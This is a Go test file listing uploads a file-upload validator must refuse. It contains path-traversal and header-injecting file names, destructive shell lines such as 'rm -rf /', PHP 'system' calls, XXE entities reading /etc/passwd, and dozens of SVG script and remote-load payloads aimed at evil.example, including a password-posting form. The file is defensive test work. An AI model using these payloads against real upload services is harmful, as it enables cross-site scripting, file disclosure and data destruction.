package sessionfiles_test

import (
	"strings"
	"testing"

	"lectern/localstack/test/it"
)

// hostile is an upload that is refused. field is the field of the refusal.
type hostile struct {
	name, field string
	// draft is what the client sends to begin.
	draft object
	// text is the bytes; empty for an upload that does not begin.
	text string
}

// hostileDrafts are uploads that do not begin.
func hostileDrafts() (all []hostile) {
	for _, name := range []string{
		// Programs behind the name of a document.
		"slides.pdf.exe", "slides.pdf.js", "photo.png.html", "photo.jpg.svgz", "talk.pptx.scr", "talk.docx.vbs", "notes.txt.cmd", "notes.txt.bat",
		"notes.pdf.lnk", "archive.zip.jar", "film.mp4.msi", "poster.pdf.PhP", "poster.pdf.HTA", "page.pdf.xhtml", "macro.pptm", "macro.docm", "macro.xlsm",
		"archive.tar.sh", "run.py", "run.ps1", "run.wasm", "page.mht", "slides.HTML", "list.xml", ".sh",
		// Ways into another folder.
		"../slides.pdf", `..\slides.pdf`, "/etc/passwd", `C:\slides.pdf`, `\\host\share\slides.pdf`, "a/../../slides.pdf", "./slides.pdf", "slides.pdf/",
		"..", "...", ".",
		// Names that look like others, or end a header.
		"a\x00.pdf", "a.exe\x00.pdf", "a\nb.pdf", "a.pdf\r\nContent-Type: text/html", "slides\u202efdp.exe", "slides\u202efdp.pdf", "a\u200b.pdf", "\ufeffa.pdf",
		"a\u2028.pdf", "a\x1b[31m.pdf", "a\x7f.pdf", " a.pdf", "a.pdf ", "a.pdf.", "a.exe.", "a.exe ", "a.exe\u00a0", "a.exe\u3000",
		"", strings.Repeat("x", 256),
	} {
		all = append(all, hostile{"the name " + name, "filename", object{"filename": name}, ""})
	}
	for _, size := range []any{0, -1, 524_288_001, int64(1) << 50, 1.5, 1e300, "1", nil, true} {
		all = append(all, hostile{"a size", "size_bytes", object{"size_bytes": size}, ""})
	}
	for _, kind := range []any{
		"text/html", "Text/HTML; charset=utf-8", "application/xhtml+xml", "text/javascript", "application/javascript; charset=utf-8", "application/x-msdownload",
		"application/java-archive", "application/x-sh", "application/wasm", "text/xml", "message/rfc822", "image/png\r\nX-Header: 1", "a/b\nc", "pdf", "image/*",
		"text/html,image/png", `image/png; x="`, "../pdf", nil,
	} {
		all = append(all, hostile{"a type", "content_type", object{"content_type": kind}, ""})
	}
	return append(all,
		hostile{"two types", "mimetype", object{"mimetype": "image/png", "content_type": "image/jpeg"}, ""},
		hostile{"a type by its other name", "mimetype", object{"mimetype": "application/x-sh"}, ""},
		hostile{"a slot of another", "content_slot_id", object{"content_slot_id": it.UnknownID}, ""},
		hostile{"a contact of another", "assigned_participant_id", object{"assigned_participant_id": it.UnknownID}, ""},
	)
}

// as returns an upload whose bytes are refused, with a name and a type.
func as(what, filename, kind, text string) hostile {
	draft := object{"filename": filename}
	if kind != "" {
		draft["content_type"] = kind
	}
	return hostile{what, "content_type", draft, text}
}

// hostileBytes are uploads whose bytes are refused.
func hostileBytes(t *testing.T) []hostile {
	t.Helper()
	exe := "MZ" + strings.Repeat("\x00", 58) + "\x40\x00\x00\x00PE\x00\x00" + strings.Repeat("\x00", 100)
	all := []hostile{
		as("HTML as a picture", "a.png", "image/png", html),
		as("HTML as text", "a.txt", "text/plain", html),
		as("HTML as anything", "a.bin2", "application/octet-stream", html),
		as("HTML as a PDF", "a.pdf", "application/pdf", html),
		as("HTML after spaces", "a.txt", "text/plain", "  \n\t"+html),
		as("HTML after many spaces", "a.txt", "text/plain", strings.Repeat(" ", 5000)+html),
		as("a ZIP as an unknown picture", "a.img2", "image/x-of-mine", zipped(t, "a.txt")),
		as("text as an unknown sound", "a.snd", "audio/x-of-mine", "Good morning."),
		as("HTML after a mark of the byte order", "a.txt", "text/plain", "\xef\xbb\xbf"+html),
		as("HTML in capitals", "a.txt", "text/plain", "<HTML><BODY ONLOAD=alert(1)>"),
		as("HTML without a start", "a.txt", "text/plain", "<script>alert(1)</script>"),
		as("a frame", "a.txt", "text/plain", `<iframe src="javascript:alert(1)">`),
		as("a comment before HTML", "a.txt", "text/plain", "<!-- a --><script>alert(1)</script>"),
		as("HTML before a PDF", "a.pdf", "application/pdf", html+pdf),
		as("XHTML", "a.txt", "text/plain", `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>`),
		as("a script", "a.txt", "text/plain", "#!/bin/sh\nrm -rf /\n"),
		as("a script of Python", "a.txt", "text/plain", "#!/usr/bin/env python3\nprint(1)\n"),
		as("a script of Perl", "a.txt", "text/plain", "#!/usr/bin/perl\nprint 1;\n"),
		as("a script of Node", "a.txt", "text/plain", "#!/usr/bin/env node\nconsole.log(1)\n"),
		as("a script of Lua", "a.txt", "text/plain", "#!/usr/bin/lua\nprint(1)\n"),
		as("a script of Ruby", "a.txt", "text/plain", "#!/usr/bin/env ruby\nputs 1\n"),
		as("PHP", "a.txt", "text/plain", "<?php system('id'); ?>"),
		as("PHP as a picture", "a.jpg", "image/jpeg", "<?php system('id'); ?>"),
		as("XML", "a.txt", "text/plain", `<?xml version="1.0"?><a/>`),
		as("a program of Linux", "a.pdf", "application/pdf", elf),
		as("a program as unknown", "a", "application/octet-stream", elf),
		as("a program of Windows", "a.dat", "application/x-of-mine", exe),
		as("a program of Windows as a film", "a.mp4", "video/mp4", exe),
		as("a program of macOS", "a", "application/octet-stream", "\xcf\xfa\xed\xfe\x07\x00\x00\x01"+strings.Repeat("\x00", 30)),
		as("a class", "a.dat", "application/octet-stream", "\xca\xfe\xba\xbe\x00\x00\x00\x34"),
		as("a JAR", "a.zip", "application/zip", zipped(t, "META-INF/MANIFEST.MF", "A.class")),
		as("an app of Android", "a.zip", "application/zip", zipped(t, "AndroidManifest.xml", "classes.dex")),
		as("WebAssembly", "a.dat", "application/octet-stream", "\x00asm\x01\x00\x00\x00"),
		as("Flash", "a.dat", "application/octet-stream", "CWS\x0a\x00\x00\x00\x00"),
		as("a package of Debian", "a.dat", "application/octet-stream", "!<arch>\ndebian-binary   1410122664  0     0     100644  4         `\n2.0\n"),
		as("a package of Red Hat", "a.dat", "application/octet-stream", "\xed\xab\xee\xdb\x03\x00\x00\x00"),
		as("an extension of Chrome", "a.dat", "application/octet-stream", "Cr24\x02\x00\x00\x00"+strings.Repeat("\x00", 8)+zipped(t, "manifest.json")),
		as("a shortcut of Windows", "a.dat", "application/octet-stream",
			"L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46"+strings.Repeat("\x00", 60)),
		as("a picture as a PDF", "a.pdf", "application/pdf", png),
		as("a PDF as a picture", "a.png", "image/png", pdf),
		as("a PNG as a JPEG", "a.jpg", "image/jpeg", png),
		as("a GIF as a PNG", "a.png", "image/png", "GIF89a\x01\x00\x01\x00\x00\x00\x00;"),
		as("a GIF that is a script, as text", "a.txt", "text/plain", "GIF89a=1;alert(1)"),
		as("a ZIP as a PDF", "a.pdf", "application/pdf", zipped(t, "a.txt")),
		as("a ZIP after a picture", "a.zip", "application/zip", png+zipped(t, "a.txt")),
		as("text as a PDF", "a.pdf", "application/pdf", "Not a PDF."),
		as("noise as a picture", "a.jpg", "image/jpeg", "\x01\x02\x03\x04\x05"),
		as("a picture cut short", "a.png", "image/png", png[:6]),
		as("a PDF cut short", "a.pdf", "application/pdf", "%PD"),
		as("zeros as a picture", "a.png", "image/png", strings.Repeat("\x00", 100)),
		as("a film as a sound", "a.mp3", "audio/mpeg", "\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom"),
		as("a document of Word as slides", "a.pptx", "", zipped(t, "[Content_Types].xml", "_rels/.rels", "word/document.xml")),
		as("slides as a table", "a.xlsx", "", zipped(t, "[Content_Types].xml", "_rels/.rels", "ppt/presentation.xml")),
		as("an archive as a ZIP", "a.zip", "application/zip", "7z\xbc\xaf\x27\x1c\x00\x04"),
		as("a text as an SVG", "a.svg", "", "No picture."),
		as("a broken SVG", "a.svg", "", drawing("<g>")),
		as("an SVG as text", "a.txt", "text/plain", drawing("<script/>")),
		as("an SVG as unknown", "a", "application/octet-stream", drawing("<script/>")),
		as("an SVG as a picture", "a.png", "image/png", drawing("")),
	}
	for what, text := range hostileDrawings() {
		all = append(all, as(what, "a.svg", "", text))
	}
	return all
}

// hostileDrawings are SVGs that are more than a picture.
func hostileDrawings() map[string]string {
	all := map[string]string{
		"an entity":                         `<!DOCTYPE svg [<!ENTITY a "b">]>` + drawing(""),
		"a bomb of entities":                `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>` + drawing("<text>&b;</text>"),
		"an entity of a file":               `<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>` + drawing("<text>&a;</text>"),
		"a style sheet":                     `<?xml-stylesheet href="https://evil.example/a.css"?>` + drawing(""),
		"an instruction of PHP":             drawing("<?php system('id'); ?>"),
		"a script of a shell":               "#!/bin/sh\nrm -rf ~\nexit\n<svg/>",
		"text after the picture":            drawing("") + "alert(1)",
		"a second picture":                  drawing("") + `<form action="https://evil.example"><input name="password"/></form>`,
		"a script after the picture":        drawing("") + "<script>alert(1)</script>",
		"a script after a byte order mark":  "\xef\xbb\xbf" + drawing("<script>alert(1)</script>"),
		"a text in a Japanese encoding":     "<?xml version=\"1.0\" encoding = \"ISO-2022-JP\"?><!--\x1b$B--><!xx\"!\x1b(B -->" + drawing("<script/>") + "<!-- \">" + drawing("") + " -->",
		"another encoding":                  `<?xml version="1.0" encoding='UTF-16'?><svg xmlns="http://www.w3.org/2000/svg"/>`,
		"a control character":               drawing("<g>\x1b</g>"),
		"a document type of others":         `<!DOCTYPE svg SYSTEM "https://evil.example/a.dtd"><svg xmlns="http://www.w3.org/2000/svg"/>`,
		"another document type of others":   `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "https://evil.example/a.dtd"><svg xmlns="http://www.w3.org/2000/svg"/>`,
		"a name space for each element":     `<svg xmlns="` + strings.Repeat("A", 1_000_000) + `">` + strings.Repeat("<g/>", 200_000) + `</svg>`,
		"a handler of the picture":          `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`,
		"a picture in another encoding":     `<?xml version="1.0" encoding="UTF-7"?><svg xmlns="http://www.w3.org/2000/svg">+ADw-script+AD4-</svg>`,
		"a script under another name space": `<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>alert(1)</s:script></s:svg>`,
	}
	for _, part := range []string{
		"<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", `<script href="https://evil.example/a.js"/>`, "<defs><script>alert(1)</script></defs>",
		"<script><![CDATA[alert(1)]]></script>", `<g><a:SCRIPT xmlns:a="http://www.w3.org/2000/svg"/></g>`, `<script type="text/ecmascript">alert(1)</script>`,
		`<rect onload="alert(1)"/>`, `<rect ONCLICK="alert(1)"/>`, "<rect onmouseover\n=\n'alert(1)'/>", `<g onfocusin="alert(1)" tabindex="1"/>`,
		`<foreignObject><p/></foreignObject>`, `<FOREIGNOBJECT/>`, `<iframe src="https://evil.example"/>`, `<embed src="a.swf"/>`, `<object data="a.html"/>`,
		`<video><source onerror="alert(1)"/></video>`, `<audio src="https://evil.example/a.mp3"/>`, `<handler type="application/ecmascript">alert(1)</handler>`,
		`<listener event="load" handler="#a"/>`, `<set attributeName="href" to="javascript:alert(1)"/>`, `<link rel="stylesheet" href="https://evil.example/a.css"/>`,
		`<animate attributeName="href" to="javascript:alert(1)"/>`,
		`<a xlink:href=" javascript:alert(1)"/>`, `<a href="JaVaScRiPt:alert(1)"/>`, "<a href=\"java&#9;script:alert(1)\"/>", `<a href="&#106;avascript:alert(1)"/>`,
		`<a href="vbscript:a"/>`, `<a href="//evil.example"/>`, `<a href="data:text/html,a"/>`, `<image href="https://evil.example/a.png"/>`,
		`<image xlink:href="file:///etc/passwd"/>`, `<use href="https://evil.example/a.svg#a"/>`, `<use href="data:image/svg+xml;base64,AAAA#a"/>`,
		`<feImage href="https://evil.example/a.png"/>`, `<image href="data:image/svg+xml,a"/>`,
		`<style>@import url(https://evil.example/a.css);</style>`, `<style>rect{fill:url("https://evil.example/a.svg#a")}</style>`,
		`<rect style="fill:URL( 'https://evil.example/a.svg#a')"/>`, `<rect fill="url(https://evil.example/a.svg#a)"/>`, `<style>rect{fill:u\72l(//evil.example)}</style>`,
		`<rect filter="url(//evil.example/a.svg#a)"/>`, `<style><![CDATA[@IMPORT "https://evil.example/a.css";]]></style>`,
		`<style>rect{background:image-set("https://evil.example/a.png" 1x)}</style>`, `<style>rect{background:image("//evil.example/a.png")}</style>`,
		`<style>/*url(#*/.a{background:image("//evil.example/a.png")}</style>`,
		`<style>.a{content:"url(#";background:image("//evil.example/a.png")}</style>`,
		`<style>.a{content:'url("#';background:image('//evil.example/a.png')}.b{content:'"'}</style>`,
		`<image src="https://evil.example/a.png"/>`, `<g xml:base="https://evil.example/"/>`, `<rect fill="url(#a) url(https://evil.example/a.svg#b)"/>`,
		`<style>.a{fill:u<!-- -->rl(//evil.example)}</style>`, `<style>.a{fill:u<![CDATA[rl(//evil.example)]]>}</style>`, `<style>.a{<g/>fill:url(#a)}</style>`,
		`<h:meta xmlns:h="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=https://evil.example"/>`,
		`<h:img xmlns:h="http://www.w3.org/1999/xhtml" src="https://evil.example/a.png"/>`, `<p xmlns="http://www.w3.org/1999/xhtml">HTML</p>`,
	} {
		all["a drawing with "+part] = drawing(part)
	}
	return all
}
